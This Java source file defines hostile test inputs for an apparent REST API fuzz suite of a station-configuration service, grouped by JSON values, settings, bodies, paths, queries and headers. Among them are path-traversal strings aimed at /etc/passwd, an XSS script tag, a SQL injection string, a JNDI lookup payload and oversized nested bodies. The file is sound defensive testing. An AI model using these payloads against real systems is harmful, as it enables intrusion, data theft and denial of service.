package org.stationconfig.fuzz.rest;

import java.util.List;

/** The hostile values the bad-input suite tries, per place: JSON values, path segments, query values, headers. */
final class HostileInputs {

    private HostileInputs() {
    }

    /** JSON literals: wrong types, out-of-range and unrepresentable numbers, hostile and huge strings, nesting. */
    static final List<String> JSON_VALUES = List.of(
            "null", "true", "false", "0", "-1", "1", "1.5", "2147483648", "9223372036854775808",
            "123456789012345678901234567890", "1e-400", "-1e-400", "1e999", "1e999999999", "1.0e-999999999",
            "\"\"", "\" \"", "\"\\u0000\"", "\"😀\"", "\"../../../etc/passwd\"", "\"<script>alert(1)</script>\"",
            "\"' OR 1=1 --\"", "\"${jndi:ldap://fuzz.invalid/a}\"", "\"ws://user:secret@fuzz.invalid/ocpp?token=1\"",
            "\"" + "x".repeat(200_000) + "\"", "\"NaN\"", "\"1e999999999\"",
            "[]", "[1,\"a\",null]", "{}", "{\"a\":{\"b\":{}}}", "[".repeat(3000) + "]".repeat(3000));

    /** Per setting of a settings patch: the values that break a setting's type or bounds. */
    static final List<String> SETTING_VALUES = List.of("null", "true", "-1", "1.5", "2147483648",
            "123456789012345678901234567890", "1e-400", "1e999", "1e999999999", "1.0e-999999999", "\"\"",
            "\"\\u0000\"", "\"" + "x".repeat(200_000) + "\"", "[1,\"a\",null]", "{}");

    /** Whole bodies that are not the documented shape, or not JSON. */
    static final List<String> BODIES = List.of("", "null", "[]", "\"text\"", "1", "{", "{}}", "{\"a\":1,}", "{'a':1}",
            "[".repeat(10_000) + "]".repeat(10_000), "{\"a\":".repeat(3000) + "1" + "}".repeat(3000),
            "{\"unknownField\":\"x\"}", "{\"values\":{\"heartbeatInterval\":60},\"values\":{}}",
            "\"" + "x".repeat(2_000_000) + "\"");

    /** Path segments (already URL-encoded where needed). */
    static final List<String> PATH_VALUES = List.of("0", "-1", "99999999999999999999", "1e-400", "1.5", "abc", "%00",
            "..%2F..%2Fetc%2Fpasswd", "x".repeat(3000), "%F0%9F%98%80", "null", "%20");

    /** Query values (already URL-encoded). */
    static final List<String> QUERY_VALUES = List.of("-1", "0", "2147483648", "1000000000", "1e-400", "abc", "",
            "%00", "x".repeat(3000), "NOT_A_VALUE");

    /** Header values. */
    static final List<String> HEADER_VALUES = List.of("\"abc\"", "*", "\"99999999999999999999\"", "\"-1\"",
            "x".repeat(5000), "W/\"1\"", "\"1\", \"2\"");
}
